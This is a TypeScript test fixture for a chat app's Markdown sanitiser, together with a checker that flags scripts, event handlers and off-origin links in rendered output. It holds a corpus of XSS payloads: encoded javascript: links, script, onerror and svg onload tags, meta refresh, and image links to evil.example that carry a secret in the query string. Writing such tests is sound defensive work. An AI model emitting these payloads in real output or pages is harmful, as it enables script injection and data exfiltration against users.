/**
 * Hostile markdown, as a model (or a poisoned knowledge document) could write it, and the check that what the
 * Markdown component made of it is harmless: no script, no event handler, no link with a dangerous target and
 * nothing that loads from another origin (REQ-chat Safety, REQ-sec-xss Output). Used by the unit tests
 * (happy-dom) and by the HostileMarkdown story, whose play runs the same check in Chromium. Not part of any
 * screen.
 */
import { ALLOWED_LINK_PROTOCOLS } from '@sentinel/domain';

export type HostilePayload = {
  /** What the payload tries. */
  readonly name: string;
  readonly markdown: string;
  /** Words that must still be shown once the payload is neutralised (a link's text, an image's alt). */
  readonly keeps?: string;
};

/** Every payload fails if it runs: `alert(1)`, or a request to evil.example. */
export const HOSTILE_MARKDOWN: readonly HostilePayload[] = [
  // Dangerous link schemes, in every spelling a browser would still read as the scheme.
  { name: 'javascript: link', markdown: '[plain](javascript:alert(1))', keeps: 'plain' },
  { name: 'mixed-case scheme', markdown: '[mixed case](JaVaScRiPt:alert(1))', keeps: 'mixed case' },
  {
    name: 'decimal entity',
    markdown: '[decimal entity](&#106;avascript:alert(1))',
    keeps: 'decimal entity',
  },
  {
    name: 'hex entities',
    markdown: '[hex entities](&#x6A;&#x61;vascript:alert(1))',
    keeps: 'hex entities',
  },
  {
    name: 'zero-padded entity',
    markdown: '[padded entity](&#0000106;avascript:alert(1))',
    keeps: 'padded entity',
  },
  {
    name: 'entity-encoded colon',
    markdown: '[encoded colon](jAvAsCrIpT&#58;alert(1))',
    keeps: 'encoded colon',
  },
  {
    name: 'named-entity colon',
    markdown: '[named colon](javascript&colon;alert(1))',
    keeps: 'named colon',
  },
  {
    name: 'entity-encoded tab inside the scheme',
    markdown: '[encoded tab](java&#x09;script:alert(1))',
    keeps: 'encoded tab',
  },
  {
    name: 'entity-encoded newline inside the scheme',
    markdown: '[encoded newline](jav&#x0A;ascript:alert(1))',
    keeps: 'encoded newline',
  },
  {
    name: 'raw tab inside the scheme',
    markdown: '[raw tab](<java\tscript:alert(1)>)',
    keeps: 'raw tab',
  },
  {
    name: 'leading spaces',
    markdown: '[leading spaces](<   javascript:alert(1)>)',
    keeps: 'leading spaces',
  },
  {
    name: 'leading control character',
    markdown: '[control char](&#x01;javascript:alert(1))',
    keeps: 'control char',
  },
  {
    name: 'data: URL',
    markdown: '[data url](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    keeps: 'data url',
  },
  { name: 'vbscript: URL', markdown: '[vb](VBScript:msgbox(1))', keeps: 'vb' },
  { name: 'file: URL', markdown: '[file](file:///etc/passwd)', keeps: 'file' },
  { name: 'autolink', markdown: '<javascript:alert(1)>' },
  { name: 'upper-case autolink', markdown: '<JAVASCRIPT:alert(1)>' },
  {
    name: 'reference definition',
    markdown: '[ref link][evil]\n\n[evil]: javascript:alert(1)',
    keeps: 'ref link',
  },
  {
    name: 'entity-encoded reference with a title',
    markdown: '[ref title][t]\n\n[t]: &#x6A;avascript:alert(1) "Click me"',
    keeps: 'ref title',
  },
  // Links that leave the origin while looking relative.
  {
    name: 'protocol-relative link',
    markdown: '[protocol relative](//evil.example/steal)',
    keeps: 'protocol relative',
  },
  {
    name: 'backslash protocol-relative link',
    markdown: '[backslashes](\\\\\\\\evil.example/steal)',
    keeps: 'backslashes',
  },
  {
    name: 'slash-backslash link',
    markdown: '[slash backslash](/\\\\evil.example/steal)',
    keeps: 'slash backslash',
  },
  // Raw HTML: dropped whole.
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)><circle r="5"/></svg>' },
  { name: 'iframe', markdown: '<iframe src="https://evil.example/frame"></iframe>' },
  {
    name: 'raw anchor with a handler',
    markdown: '<a href="javascript:alert(1)" onclick="alert(1)">raw anchor</a>',
  },
  {
    name: 'inline element with a handler',
    markdown: 'Text <b onmouseover="alert(1)">bold</b> after',
    keeps: 'bold',
  },
  {
    name: 'style with an outside URL',
    markdown: '<style>body { background: url(https://evil.example/css.png) }</style>',
  },
  { name: 'stylesheet link', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'meta refresh',
    markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  { name: 'base element', markdown: '<base href="https://evil.example/">' },
  {
    name: 'form posting elsewhere',
    markdown: '<form action="https://evil.example/collect"><button>Send</button></form>',
  },
  { name: 'html comment', markdown: '<!-- <img src="https://evil.example/comment.png"> -->' },
  {
    name: 'escaped markup stays text',
    markdown: '&lt;script&gt;alert(1)&lt;/script&gt;',
    keeps: '<script>alert(1)</script>',
  },
  // Images: only this origin's own paths load; every other one would send a request elsewhere.
  {
    name: 'external image (data exfiltration)',
    markdown: '![exfiltrate](https://evil.example/pixel.png?note=secret)',
    keeps: '[exfiltrate]',
  },
  {
    name: 'protocol-relative image',
    markdown: '![tracker](//evil.example/pixel.gif)',
    keeps: '[tracker]',
  },
  {
    name: 'upper-case scheme image',
    markdown: '![upper](HTTPS://EVIL.EXAMPLE/a.png)',
    keeps: '[upper]',
  },
  {
    name: 'slash-backslash image',
    markdown: '![backslash image](/\\\\evil.example/a.png)',
    keeps: '[backslash image]',
  },
  {
    name: 'entity-encoded protocol-relative image',
    markdown: '![encoded slashes](&#x2F;&#x2F;evil.example/c.png)',
    keeps: '[encoded slashes]',
  },
  {
    name: 'data: image',
    markdown: '![inline data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    keeps: '[inline data]',
  },
  {
    name: 'javascript: image',
    markdown: '![script image](javascript:alert(1))',
    keeps: '[script image]',
  },
  {
    name: 'reference image',
    markdown: '![ref image][px]\n\n[px]: https://evil.example/ref.png',
    keeps: '[ref image]',
  },
  {
    name: 'external image inside a javascript: link',
    markdown: '[![nested](https://evil.example/b.png)](javascript:alert(1))',
    keeps: '[nested]',
  },
];

/** The whole corpus as one document, as the story shows it. */
export const HOSTILE_MARKDOWN_DOCUMENT = HOSTILE_MARKDOWN.map((p) => p.markdown).join('\n\n');

/** Elements markdown never needs and that can run code, load from elsewhere or change the page. */
const FORBIDDEN_ELEMENTS = [
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'svg',
  'math',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'video',
  'audio',
  'source',
];

/** Attributes that load something or run something, beyond href and src (checked on their own). */
const FORBIDDEN_ATTRIBUTES = ['style', 'srcset', 'action', 'formaction', 'poster', 'background', 'data'];

const ALLOWED_SCHEMES = new Set(ALLOWED_LINK_PROTOCOLS.map((p) => `${p}:`));

/* eslint-disable-next-line no-control-regex -- browsers drop these around a URL before reading it */
const EDGE = /^[\u0000-\u0020]+|[\u0000-\u0020]+$/g;

/** Resolves a URL the way the page would, or undefined when the browser could not read it either. */
function resolve(value: string, origin: string): URL | undefined {
  try {
    return new URL(value.replace(/[\t\n\r]/g, '').replace(EDGE, ''), `${origin}/`);
  } catch {
    return undefined;
  }
}

/**
 * Everything harmful in rendered output, in words ('<script>', 'onerror on <img>', 'href javascript:...');
 * empty when the output is harmless. A link may use an allowed scheme (REQ-limit-link-protocols) or stay on `origin`; anything with a
 * src must load from `origin`.
 */
export function harmfulOutput(root: ParentNode, origin: string): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (FORBIDDEN_ELEMENTS.includes(tag)) found.push(`<${tag}>`);
    for (const name of element.getAttributeNames()) {
      const lower = name.toLowerCase();
      if (lower.startsWith('on')) found.push(`${lower} on <${tag}>`);
      if (FORBIDDEN_ATTRIBUTES.includes(lower)) found.push(`${lower} on <${tag}>`);
    }
    const href = element.getAttribute('href');
    if (href !== null) {
      const url = resolve(href, origin);
      const looksAbsolute = /^[a-z][a-z0-9+.-]*:/i.test(href.trim());
      if (!url || !ALLOWED_SCHEMES.has(url.protocol) || (!looksAbsolute && url.origin !== origin)) {
        found.push(`href ${href} on <${tag}>`);
      }
    }
    const src = element.getAttribute('src');
    if (src !== null && resolve(src, origin)?.origin !== origin) found.push(`src ${src} on <${tag}>`);
  }
  return found;
}
